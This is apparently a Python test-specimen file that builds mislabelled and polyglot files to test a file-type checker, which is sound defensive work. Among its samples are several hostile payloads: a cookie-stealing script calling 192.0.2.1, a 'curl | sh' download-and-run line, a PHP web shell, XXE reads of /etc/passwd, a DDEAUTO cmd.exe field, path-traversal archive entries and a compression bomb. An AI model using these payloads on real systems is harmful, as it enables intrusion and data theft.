"""Files that are not what their name says: programs, web pages, archives, two types in one, and nothing at all."""

from __future__ import annotations

import gzip
import io
import tarfile

from tests.specimens import ofd, office
from tests.specimens.attacks.pictures import CUT_JPEG, WHOLE_PNG
from tests.specimens.attacks.raw_pdf import page, written

PDF = written(page())
SCRIPT = b"<script>fetch('http://192.0.2.1/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/>' + SCRIPT + b"</svg>"


def _tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo("../../escaped")
        archive.addfile(entry, io.BytesIO())
    return file.getvalue()


def programs() -> dict[str, bytes]:
    return {
        "program-windows.pdf": b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode." + bytes(400),
        "program-linux.jpg": b"\x7fELF\x02\x01\x01" + bytes(500),
        "program-java.png": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(90),
        "script-shell.pdf": b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n",
        "script-php.jpg": b"<?php system($_GET['c']); ?>",
        "page.pdf": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
        "page-upper.pdf": b"\n\n  <HTML><HEAD>" + SCRIPT,
        "page-wide.pdf": ("\ufeff<html><script>1</script></html>").encode("utf-16"),
        "drawing.png": SVG,
        "drawing-with-head.png": b'<?xml version="1.0"?>\n<!-- a -->\n' + SVG,
        "drawing-of-entities.svg": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
        "markup.ofd": b'<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>',
        "postscript.pdf": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "link.pdf": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(300),
    }


def archives() -> dict[str, bytes]:
    return {
        "archive.rar": b"Rar!\x1a\x07\x01\x00" + bytes(90),
        "archive.7z": b"7z\xbc\xaf\x27\x1c" + bytes(90),
        "archive.pdf": gzip.compress(bytes(1 << 20)),
        "archive.tar": _tar(),
        "old-word.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1500),
        "rich.rtf": b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe}}}",
        "slides.pptx": office.package({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}),
        "open.odt": office.package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
        "locked.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9000) + "EncryptedPackage".encode("utf-16-le"),
        "book.epub": office.package({"mimetype": "application/epub+zip", "META-INF/container.xml": "<a/>"}),
        "sheet.xlsb": office.package({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": "x"}),
        "page.xps": office.package({"[Content_Types].xml": "<Types/>", "FixedDocSeq.fdseq": "<a/>"}),
        "mail.pdf": b"Received: from a\r\n by b\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nx",
        "picture.j2k": b"\xff\x4f\xff\x51" + bytes(90),
        "picture.jxl": b"\x00\x00\x00\x0cJXL \r\n\x87\n" + bytes(90),
        "picture.emf": b"\x01\x00\x00\x00" + bytes(36) + b" EMF" + bytes(90),
        "paper.ceb": b"Founder CEB" + bytes(90),
        "paper.djvu": b"AT&TFORM\x00\x00\x00\x10DJVM",
        "picture.bmp": b"BM" + bytes(12) + b"\x28" + bytes(90),
        "picture.gif": b"GIF89a\xff\xff\xff\xff" + bytes(90),
        "database.pdf": b"SQLite format 3\x00" + bytes(90),
    }


def nothing() -> dict[str, bytes]:
    return {
        "empty.pdf": b"",
        "one-byte.pdf": b"%",
        "spaces.pdf": b" " * 5000,
        "zeros.tif": bytes(1 << 20),
        "noise.pdf": bytes((n * 97 + n // 7 * 31) % 256 for n in range(50_000)),
        "text.pdf": "统一社会信用代码".encode("gb18030") * 99,
        "marks-only.pdf": b"\xef\xbb\xbf",
        "half-a-magic.png": b"\x89PNG\r\n",
        "half-a-magic.tif": b"II*\x00",
    }


def polyglots() -> dict[str, bytes]:
    zipped = ofd.form().written()
    return {
        "both-page-and-pdf.pdf": b"<html><!--\n" + PDF + b"--><body>" + SCRIPT,
        "both-shell-and-pdf.pdf": b"#!/bin/sh\n: '\n" + PDF,
        "both-program-and-pdf.pdf": b"MZ\x90\x00\n" + PDF,
        "both-gif-and-pdf.pdf": b"GIF89a/*\n" + PDF,
        "both-zip-and-pdf.pdf": b"PK\x03\x04" + bytes(60) + b"\n" + PDF,
        "both-pdf-and-zip.pdf": PDF + office.package({"../../escaped": "x"}),
        "both-pdf-and-ofd.ofd": PDF + zipped,
        "both-jpeg-and-pdf.jpg": CUT_JPEG + PDF,
        "both-png-and-page.png": WHOLE_PNG + b"<html>" + SCRIPT,
        "both-jpeg-and-zip.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + zipped,
        "both-tiff-and-pdf.tif": b"II*\x00\x08\x00\x00\x00" + PDF,
        "pdf-behind-5000-bytes.pdf": b"x" * 5000 + PDF,
        "pdf-in-pdf.pdf": written({**page(), 10: b"<</Length %d>>\nstream\n%s\nendstream" % (len(PDF), PDF)}),
        "pdf-head-twice.pdf": b"%PDF-1.1\n%PDF-1.7\n" + PDF,
    }


def recordings() -> dict[str, bytes]:
    """What only begins like a recording: as one it would be kept, and read by nobody."""
    return {
        "recording-of-two-bytes.mp3": b"\xff\xfb",
        "recording-of-noise.aac": b"\xff\xf1\xff\xff" + bytes(90),
        "text-on-id3.mp3": b"ID3 is a kind of tag; this is but a text.",
        "text-on-ftyp.mp4": b"the ftyp of this text is none at all",
        "both-mp3-and-pdf.mp3": b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + PDF,
        "box-of-4-gigabytes.mp4": b"\xff\xff\xff\xffftypisom" + bytes(90),
    }
